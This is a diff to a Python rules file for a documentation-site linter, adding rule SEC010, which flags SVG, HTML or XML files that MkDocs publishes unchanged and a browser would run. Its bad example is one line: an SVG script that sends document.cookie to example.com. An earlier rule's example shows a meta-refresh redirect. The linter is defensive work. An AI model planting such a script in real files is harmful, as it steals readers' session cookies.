@@ -1,8 +1,8 @@
-"""Rules SEC001-SEC009: what a contribution could smuggle onto the site (a link out of the
+"""Rules SEC001-SEC010: what a contribution could smuggle onto the site (a link out of the
 project, active content in a post or its front matter).
 
 SEC001 is the path checks' (``checks.paths``); SEC002 onwards the content checks'
-(``checks.security``).
+(``checks.security``); SEC010 the published-file check's (``checks.published``).
 """
 
 from toulmin.findings import ERROR
@@ -53,4 +53,14 @@ FAMILY = Family("SEC", "security", "Security",
          "load or restyle the page: none belongs in a post.",
          "<meta http-equiv=\"refresh\" content=\"0;url=https://example.com\">",
          "(nothing: remove it)", "remove the element"),
+    # -- SEC010: files published as written (checks.published) ------------------------
+    Rule("SEC010", ERROR, "a file published as written that a browser runs",
+         "MkDocs copies every file of docs/ and the posts folder that is not Markdown to the "
+         "site byte for byte. An HTML or XML page, or an SVG with a script, a handler, "
+         "HTML inside it or a reference to another file, runs on the site's host when a "
+         "reader opens it, and a page's Content-Security-Policy does not cover it.",
+         "docs/assets/map.svg with <script>fetch('https://example.com/?'+document.cookie)</script>",
+         "docs/assets/map.svg with shapes and text only",
+         "write a page as Markdown; keep a picture passive (shapes, text, #fragment "
+         "references)"),
 ))
